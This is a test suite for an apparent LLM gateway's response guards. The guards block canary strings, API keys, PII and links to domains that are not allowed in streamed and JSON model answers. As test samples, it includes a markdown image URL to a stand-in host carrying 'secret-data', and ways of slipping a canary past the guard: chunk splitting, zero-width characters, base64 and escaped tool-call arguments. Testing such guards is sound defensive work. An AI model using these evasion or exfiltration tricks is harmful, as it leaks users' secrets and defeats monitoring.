import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { GuardsSchema } from '../config/sections/guards.js';
import type { GatewayEvent } from '../pipeline/part.js';
import { isRelease, type GatewayRequest, type ResponseInspector } from '../pipeline/stages.js';
import { foldText } from './canary.js';
import { GuardMetrics } from './guard-metrics.js';
import { GuardReporter } from './guard-report.js';
import { buildGuardSet } from './guard-set.js';
import type { ResponseGuard } from './guard-types.js';
import { JsonGuardInspector } from './json-inspector.js';
import { ResponseRun } from './response-run.js';
import { SseGuardInspector } from './sse-inspector.js';
import { splitAt } from '../test-support/split-bytes.js';

const CANARY = 'ZEBRA-7781-QUASAR';

function guards(extra: object = {}): readonly ResponseGuard[] {
  const config = GuardsSchema.parse({
    defaults: false,
    response: {
      canary: { canaries: [CANARY] },
      'secrets-leak': {},
      'pii-leak': { action: 'block' },
      links: { allowDomains: ['docs.example.com'] },
      ...extra,
    },
  });
  return buildGuardSet(config, []).response;
}

function fakeRequest(): GatewayRequest {
  return { id: 'r1', route: { id: 'chat' }, verdicts: [], principal: undefined, model: 'm' } as unknown as GatewayRequest;
}

interface Outcome {
  delivered: Buffer;
  cut: boolean;
  req: GatewayRequest;
  events: GatewayEvent[];
}

/** Feed `chunks` through an inspector as the gateway's pump does; what would the client get? */
function pumpThrough(chunks: readonly Buffer[], make: (run: ResponseRun) => ResponseInspector = (run) => new SseGuardInspector(run, 1 << 20), list = guards()): Outcome {
  const events: GatewayEvent[] = [];
  const req = fakeRequest();
  const run = new ResponseRun(req, list, new GuardReporter(new GuardMetrics(), (e) => events.push(e)));
  const inspector = make(run);
  const out: Buffer[] = [];
  for (const chunk of chunks) {
    const r = inspector.chunk(chunk);
    if (r === undefined) out.push(chunk);
    else if (isRelease(r)) out.push(r.send);
    else return { delivered: Buffer.concat(out), cut: true, req, events };
  }
  const r = inspector.end();
  if (r !== undefined && !isRelease(r)) return { delivered: Buffer.concat(out), cut: true, req, events };
  if (r !== undefined) out.push(r.send);
  return { delivered: Buffer.concat(out), cut: false, req, events };
}

const frame = (delta: object, extra: object = {}): string => `data: ${JSON.stringify({ id: 'c1', object: 'chat.completion.chunk', choices: [{ index: 0, delta, ...extra }] })}\n\n`;

/** An SSE answer whose content arrives in `pieces`. */
function stream(pieces: readonly string[]): Buffer {
  return Buffer.from(frame({ role: 'assistant', content: '' }) + pieces.map((p) => frame({ content: p })).join('') + frame({}, { finish_reason: 'stop' }) + 'data: [DONE]\n\n');
}

/** The content the client can read from the events it received. */
function contentOf(delivered: Buffer): string {
  let text = '';
  for (const block of delivered.toString('utf8').split('\n\n')) {
    const data = block.startsWith('data: ') ? block.slice(6) : '';
    if (data === '' || data === '[DONE]') continue;
    try {
      const value = JSON.parse(data) as { choices?: { delta?: { content?: string; tool_calls?: { function?: { arguments?: string } }[] } }[] };
      text += value.choices?.[0]?.delta?.content ?? '';
      text += value.choices?.[0]?.delta?.tool_calls?.[0]?.function?.arguments ?? '';
    } catch {
      // An incomplete event is not readable by a client either.
    }
  }
  return text;
}

const benignWords = ['The', 'answer', 'is', 'simple:', 'héllo', '✓', '日本語', 'mix', 'well,', 'then', 'serve.', 'Step', '2', 'of', 'the', 'recipe', '—', 'done!', 'café', '🙂', '\n'];

describe('response guards on a stream', () => {
  it('passes a benign answer through byte for byte, whatever the chunking', () => {
    const original = stream(['Hello', ' world', ', see [the docs](https://docs.example.com/a?b=1)', ' — 日本語 ✓', '\n\nBye.']);
    const bytewise = [...original].map((b) => Buffer.from([b]));
    for (const chunks of [[original], bytewise, splitAt(original, [7, 100, 101, 250])]) {
      const { delivered, cut, req } = pumpThrough(chunks);
      expect(cut).toBe(false);
      expect(delivered.equals(original)).toBe(true);
      expect(req.verdicts.map((v) => `${v.check}:${v.outcome}`)).toEqual(['canary:pass', 'secrets-leak:pass', 'pii-leak:pass', 'links:pass']);
    }
  });

  it('lets the role chunk and content that cannot start a match through at once', () => {
    const events: GatewayEvent[] = [];
    const run = new ResponseRun(fakeRequest(), guards(), new GuardReporter(new GuardMetrics(), (e) => events.push(e)));
    const inspector = new SseGuardInspector(run, 1 << 20);
    const role = Buffer.from(frame({ role: 'assistant', content: '' }));
    expect(inspector.chunk(role)).toBeUndefined();
    // "Hello" might be the start of hello@example.com: held until the next piece shows it is not.
    const hello = Buffer.from(frame({ content: 'Hello' }));
    expect(inspector.chunk(hello)).toEqual({ send: Buffer.alloc(0) });
    const world = Buffer.from(frame({ content: ' world. ' }));
    expect(inspector.chunk(world)).toEqual({ send: Buffer.concat([hello, world]) });
  });

  it('with the default set, delays no ordinary token (pii-leak only flags, secrets-leak holds only where a secret can start)', () => {
    const list = buildGuardSet(GuardsSchema.parse({}), []).response;
    const run = new ResponseRun(fakeRequest(), list, new GuardReporter(new GuardMetrics(), () => undefined));
    const inspector = new SseGuardInspector(run, 1 << 20);
    for (const piece of ['Hello', '! Here', ' is', ' the', ' agenda', ' for', ' jane', '@example.com', ' and', ' 4242']) {
      expect(inspector.chunk(Buffer.from(frame({ content: piece })))).toBeUndefined();
    }
    // A possible secret is held: "sk-" may be the start of a key.
    expect(inspector.chunk(Buffer.from(frame({ content: ' sk-' })))).toEqual({ send: Buffer.alloc(0) });
  });

  it.each([
    ['two pieces', ['Sure, the code is ZEBRA-77', '81-QUASAR and more']],
    ['three pieces', ['Sure: ZEB', 'RA-7781-QU', 'ASAR!']],
    ['one character per piece', [...'Here: ZEBRA-7781-QUASAR.']],
    ['disguised by case, spaces and zero-width characters', ['the word is z e b', 'r\u200Ba 7781 quasar']],
    ['base64-encoded', [`encoded: ${Buffer.from(`x${CANARY}`).toString('base64').slice(0, 9)}`, `${Buffer.from(`x${CANARY}`).toString('base64').slice(9)} end`]],
  ])('cuts a canary split over %s and never delivers it', (_name, pieces) => {
    const original = stream(pieces);
    for (const chunks of [[original], [...original].map((b) => Buffer.from([b]))]) {
      const { delivered, cut, req, events } = pumpThrough(chunks);
      expect(cut).toBe(true);
      const seen = foldText(contentOf(delivered)).toLowerCase();
      expect(seen).not.toContain('zebra7781quasar');
      expect(seen).not.toContain('7781');
      expect(req.verdicts).toContainEqual({ part: 'guards', check: 'canary', outcome: 'block', code: 'ERR_GUARD_BLOCKED' });
      expect(events[0]).toMatchObject({ type: 'guard.blocked', detail: { guard: 'canary', direction: 'response', reason: 'found' } });
      // Generated ids and times may hold any digits (a request id once held 7781); the rest must hold no part of the canary.
      expect(JSON.stringify(events.map((e) => ({ ...e, requestId: undefined, at: undefined })))).not.toMatch(/zebra|quasar|7781/i);
    }
  });

  it('cuts a canary split inside a multi-byte character and inside a data: line', () => {
    const original = stream(['Voilà — ZEBRA-', '7781-QUASAR ✓']);
    const accent = original.indexOf('à');
    const data = original.indexOf('data:', 10);
    for (const cuts of [[accent + 1], [data + 2, data + 3], [accent + 1, data + 4, original.indexOf('7781') + 2]]) {
      const { delivered, cut } = pumpThrough(splitAt(original, cuts));
      expect(cut).toBe(true);
      expect(delivered.toString('utf8')).not.toContain('7781');
    }
  });

  it('cuts a canary escaped inside tool-call arguments', () => {
    const call = (args: string, first = false) => frame({ tool_calls: [{ index: 0, ...(first ? { id: 'call_1', type: 'function' } : {}), function: { ...(first ? { name: 'send' } : {}), arguments: args } }] });
    const original = Buffer.from(frame({ role: 'assistant', content: null }) + call('{"note":"\\u005', true) + call('AEBRA-7781-QUA') + call('SAR"}') + 'data: [DONE]\n\n');
    const { delivered, cut } = pumpThrough([original]);
    expect(cut).toBe(true);
    expect(delivered.toString()).not.toContain('7781');
  });

  it('cuts a markdown image to a domain not allowed, before its host leaves, and passes an allowed one', () => {
    const evil = stream(['Here: ![chart](https://ev', 'il.example.net/pixel.png?d=', 'secret-data)']);
    const cutRun = pumpThrough([...evil].map((b) => Buffer.from([b])));
    expect(cutRun.cut).toBe(true);
    expect(contentOf(cutRun.delivered)).not.toContain('ev');
    const good = stream(['Here: ![chart](https://docs.', 'example.com/chart.png)']);
    const passRun = pumpThrough([good]);
    expect(passRun.cut).toBe(false);
    expect(passRun.delivered.equals(good)).toBe(true);
  });

  it('cuts a secret the moment it is complete, before any of it leaves', () => {
    const key = `sk-proj-${'a1B2c3D4e5F6g7H8i9J0'}k1L2`;
    const original = stream(['Your key: ', key.slice(0, 6), key.slice(6, 20), key.slice(20), ' — keep it safe.']);
    const { delivered, cut } = pumpThrough([original]);
    expect(cut).toBe(true);
    expect(contentOf(delivered)).not.toContain('sk-');
  });

  it('records a flag guard without holding anything back', () => {
    const list = guards({ canary: { canaries: [CANARY], action: 'flag' }, 'pii-leak': { action: 'flag' }, 'secrets-leak': { enabled: false }, links: { enabled: false } });
    const original = stream(['mail jane.doe@example.com', ' about ZEBRA-7781-QUASAR']);
    const { delivered, cut, req } = pumpThrough([original], undefined, list);
    expect(cut).toBe(false);
    expect(delivered.equals(original)).toBe(true);
    expect(req.verdicts.map((v) => `${v.check}:${v.outcome}`).sort()).toEqual(['canary:flag', 'pii-leak:flag']);
  });

  it('follows the fail policy for an event it cannot read and for a stream held beyond its limit', () => {
    const broken = Buffer.from(`${frame({ content: 'ok' })}data: {not json\n\ndata: [DONE]\n\n`);
    expect(pumpThrough([broken]).cut).toBe(true);
    const open = guards({ canary: { canaries: [CANARY], onError: 'fail-open' }, 'secrets-leak': { onError: 'fail-open' }, 'pii-leak': { onError: 'fail-open' }, links: { onError: 'fail-open' } });
    const passed = pumpThrough([broken], undefined, open);
    expect(passed.cut).toBe(false);
    expect(passed.delivered.equals(broken)).toBe(true);
    expect(passed.req.verdicts.every((v) => v.outcome === 'error')).toBe(true);
    // One long token (it could still become a match) held beyond the limit: fail-closed cuts.
    const long = stream(['x'.repeat(3000)]);
    const chunks = splitAt(long, [long.indexOf('data: [DONE]')]);
    expect(pumpThrough(chunks, (run) => new SseGuardInspector(run, 2048)).cut).toBe(true);
    const longOpen = pumpThrough(chunks, (run) => new SseGuardInspector(run, 2048), open);
    expect(longOpen.cut).toBe(false);
    expect(longOpen.delivered.equals(long)).toBe(true);
  });

  it('checks JSON answers as a whole: message content, completions text and tool-call arguments', () => {
    const json = (value: unknown) => [Buffer.from(JSON.stringify(value))];
    const make = (run: ResponseRun) => new JsonGuardInspector(run);
    expect(pumpThrough(json({ choices: [{ index: 0, message: { role: 'assistant', content: 'All fine, see https://docs.example.com.' } }] }), make).cut).toBe(false);
    expect(pumpThrough(json({ choices: [{ index: 0, message: { role: 'assistant', content: 'zebra 7781 quasar' } }] }), make).cut).toBe(true);
    expect(pumpThrough(json({ choices: [{ index: 0, text: 'img ![x](http://evil.test/a.png)' }] }), make).cut).toBe(true);
    expect(pumpThrough(json({ choices: [{ index: 0, message: { tool_calls: [{ function: { name: 'f', arguments: '{"a":"ZEBRA\\u002d7781-QUASAR"}' } }] } }] }), make).cut).toBe(true);
    expect(pumpThrough([Buffer.from('not json')], make).cut).toBe(true);
  });
});

describe('response guards on a stream, any chunking (property)', () => {
  const pieceArb = fc.array(fc.constantFrom(...benignWords), { minLength: 1, maxLength: 4 }).map((w) => w.join(' '));
  const cutsArb = fc.array(fc.nat(), { maxLength: 12 });

  it('delivers a benign answer unchanged', () => {
    fc.assert(
      fc.property(fc.array(pieceArb, { minLength: 1, maxLength: 12 }), cutsArb, (pieces, cuts) => {
        const original = stream(pieces);
        const { delivered, cut } = pumpThrough(splitAt(original, cuts));
        return !cut && delivered.equals(original);
      }),
      { numRuns: 300 },
    );
  });

  it('never delivers the canary, wherever it falls and however it is split', () => {
    fc.assert(
      fc.property(fc.array(pieceArb, { minLength: 1, maxLength: 8 }), fc.nat(), fc.array(fc.nat({ max: CANARY.length }), { maxLength: 4 }), cutsArb, (pieces, where, canaryCuts, cuts) => {
        const text = pieces.join('');
        const at = where % (text.length + 1);
        const full = `${text.slice(0, at)} ${CANARY} ${text.slice(at)}`;
        // The canary's own cuts are inside `full` (so the modulo leaves them as they are).
        const original = stream(splitAt(full, [...canaryCuts.map((c) => at + 1 + c), ...cuts]));
        const { delivered, cut } = pumpThrough(splitAt(original, cuts));
        return cut && !foldText(contentOf(delivered)).toLowerCase().includes('zebra') && !foldText(contentOf(delivered)).toLowerCase().includes('7781') && !delivered.toString('utf8').includes('QUASAR');
      }),
      { numRuns: 300 },
    );
  });
});
